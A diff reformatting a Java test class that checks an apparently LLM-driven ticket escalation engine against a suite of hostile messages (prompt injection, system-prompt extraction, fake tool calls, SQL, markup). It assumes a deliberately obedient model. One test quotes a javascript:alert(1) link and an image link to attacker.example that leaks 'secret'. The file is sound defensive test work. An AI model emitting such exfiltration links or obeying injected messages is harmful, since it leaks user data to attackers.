@@ -21,60 +21,88 @@ import org.junit.jupiter.params.provider.MethodSource;
  */
 class HostileInputTest {
 
-  static List<HostileMessage> messages() {
-    return HostileMessage.all();
-  }
+    static List<HostileMessage> messages() {
+        return HostileMessage.all();
+    }
 
-  private static HostileSuite.Stores inMemory() {
-    InMemoryStore store = new InMemoryStore();
-    return new HostileSuite.Stores(store, store);
-  }
+    private static HostileSuite.Stores inMemory() {
+        InMemoryStore store = new InMemoryStore();
+        return new HostileSuite.Stores(store, store);
+    }
 
-  @Test
-  void theSuiteHasAtLeastThirtyMessagesCoveringEveryCategory() {
-    Map<String, Long> byCategory = messages().stream()
-        .collect(Collectors.groupingBy(HostileMessage::category, TreeMap::new, Collectors.counting()));
+    @Test
+    void theSuiteHasAtLeastThirtyMessagesCoveringEveryCategory() {
+        Map<String, Long> byCategory = messages().stream()
+                .collect(Collectors.groupingBy(HostileMessage::category, TreeMap::new, Collectors.counting()));
 
-    assertThat(messages()).hasSizeGreaterThanOrEqualTo(30);
-    assertThat(byCategory).containsKeys("prompt_injection", "system_prompt", "fake_tool_call", "foreign_ticket", "sql",
-        "markup", "control_chars", "zero_width", "rtl_override", "empty", "invalid_surrogate", "oversize");
-  }
+        assertThat(messages()).hasSizeGreaterThanOrEqualTo(30);
+        assertThat(byCategory)
+                .containsKeys(
+                        "prompt_injection",
+                        "system_prompt",
+                        "fake_tool_call",
+                        "foreign_ticket",
+                        "sql",
+                        "markup",
+                        "control_chars",
+                        "zero_width",
+                        "rtl_override",
+                        "empty",
+                        "invalid_surrogate",
+                        "oversize");
+    }
 
-  @ParameterizedTest(name = "{0}")
-  @MethodSource("messages")
-  void theOfflineModelKeepsEveryGuaranteeForHostileMessages(HostileMessage message) {
-    HostileSuite.check(message, HostileInputTest::inMemory,
-        (world, m) -> EscalationEngine.builder().languageModel(new OfflineLanguageModel()));
-  }
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("messages")
+    void theOfflineModelKeepsEveryGuaranteeForHostileMessages(HostileMessage message) {
+        HostileSuite.check(
+                message,
+                HostileInputTest::inMemory,
+                (world, m) -> EscalationEngine.builder().languageModel(new OfflineLanguageModel()));
+    }
 
-  @ParameterizedTest(name = "{0}")
-  @MethodSource("messages")
-  void aModelThatObeysTheMessageCannotBreakAnyGuarantee(HostileMessage message) {
-    HostileSuite.check(message, HostileInputTest::inMemory, (world, m) -> EscalationEngine.builder()
-        .languageModel(new ObedientModel(m, world.victimTicket(), world.ownTicket())));
-  }
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("messages")
+    void aModelThatObeysTheMessageCannotBreakAnyGuarantee(HostileMessage message) {
+        HostileSuite.check(
+                message,
+                HostileInputTest::inMemory,
+                (world, m) -> EscalationEngine.builder()
+                        .languageModel(new ObedientModel(m, world.victimTicket(), world.ownTicket())));
+    }
 
-  @Test
-  void anObeyedConfirmationWithoutAYesShowsTheSummaryAgain() {
-    HostileMessage fiveTickets = messages().stream().filter(m -> m.id().equals("five-tickets")).findFirst()
-        .orElseThrow();
+    @Test
+    void anObeyedConfirmationWithoutAYesShowsTheSummaryAgain() {
+        HostileMessage fiveTickets = messages().stream()
+                .filter(m -> m.id().equals("five-tickets"))
+                .findFirst()
+                .orElseThrow();
 
-    HostileSuite.Outcome outcome = HostileSuite.check(fiveTickets, HostileInputTest::inMemory,
-        (world, m) -> EscalationEngine.builder().languageModel(new ObedientModel(m, world.victimTicket(), null)));
+        HostileSuite.Outcome outcome = HostileSuite.check(
+                fiveTickets,
+                HostileInputTest::inMemory,
+                (world, m) ->
+                        EscalationEngine.builder().languageModel(new ObedientModel(m, world.victimTicket(), null)));
 
-    assertThat(outcome.result().state()).isEqualTo(State.CONFIRMATION);
-    assertThat(outcome.reply()).contains("Shall I create the ticket?");
-  }
+        assertThat(outcome.result().state()).isEqualTo(State.CONFIRMATION);
+        assertThat(outcome.reply()).contains("Shall I create the ticket?");
+    }
 
-  @Test
-  void anObedientModelsRepeatedMarkupReachesTheCustomerInert() {
-    HostileMessage markdown = messages().stream().filter(m -> m.id().equals("markdown-link")).findFirst()
-        .orElseThrow();
+    @Test
+    void anObedientModelsRepeatedMarkupReachesTheCustomerInert() {
+        HostileMessage markdown = messages().stream()
+                .filter(m -> m.id().equals("markdown-link"))
+                .findFirst()
+                .orElseThrow();
 
-    HostileSuite.Outcome outcome = HostileSuite.check(markdown, HostileInputTest::inMemory,
-        (world, m) -> EscalationEngine.builder().languageModel(new ObedientModel(m, world.victimTicket(), null)));
+        HostileSuite.Outcome outcome = HostileSuite.check(
+                markdown,
+                HostileInputTest::inMemory,
+                (world, m) ->
+                        EscalationEngine.builder().languageModel(new ObedientModel(m, world.victimTicket(), null)));
 
-    assertThat(outcome.reply()).contains("[my invoice] (javascript:alert(1))")
-        .contains("![x] (https://attacker.example/leak?q=secret)");
-  }
+        assertThat(outcome.reply())
+                .contains("[my invoice] (javascript:alert(1))")
+                .contains("![x] (https://attacker.example/leak?q=secret)");
+    }
 }
